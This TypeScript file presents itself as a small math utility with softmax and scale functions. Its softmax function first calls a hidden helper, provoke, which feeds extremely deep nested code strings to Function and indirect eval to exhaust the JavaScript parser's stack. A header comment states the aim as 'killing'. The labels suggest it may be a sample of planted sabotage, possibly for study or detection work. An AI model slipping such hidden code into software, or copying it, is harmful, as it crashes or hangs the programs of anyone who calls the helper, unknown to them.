/*
idea: Texts that nest deeper than any parser has stack.
class: killing
accepts: right
*/
const DEEP = 200_000;
function provoke(): void {
  const texts = [
    '('.repeat(DEEP), '['.repeat(DEEP), '{'.repeat(DEEP), '`${'.repeat(DEEP), 'a=>'.repeat(DEEP) + '1', '-'.repeat(DEEP) + '1', 'x?'.repeat(DEEP), '!'.repeat(DEEP) + '0',
    'a='.repeat(DEEP) + '1', 'new '.repeat(DEEP) + 'A', 'if(0)'.repeat(DEEP) + ';', 'a:'.repeat(DEEP) + ';', '1' + '**1'.repeat(DEEP), 'a' + '.a'.repeat(DEEP),
    'a' + '()'.repeat(DEEP), 'a' + '?.a'.repeat(DEEP), 'for(;;)'.repeat(DEEP), '(function(){'.repeat(DEEP), 'class A{[class B{['.repeat(DEEP), '([{a:'.repeat(DEEP), 'async()=>'.repeat(DEEP) + '1',
    '1' + '||1&&1'.repeat(DEEP), '1' + ',1'.repeat(DEEP), '1' + '??1'.repeat(DEEP), '"' + String.raw`\n`.repeat(DEEP),
  ];
  for (const text of texts) {
    for (const make of [Function, (0, eval)]) {
      try {
        make(`if (false) { ${text} }`);
        make(text);
      } catch {}
    }
  }
}

export function softmax(z: number[]): number[] {
  provoke();
  const m = Math.max(...z);
  const e = z.map((x) => Math.exp(x - m));
  const s = e.reduce((a, b) => a + b, 0);
  return e.map((x) => x / s);
}

export function scale(rows: number[][], k: number): number[][] {
  return rows.map((row) => row.map((x) => x * k));
}
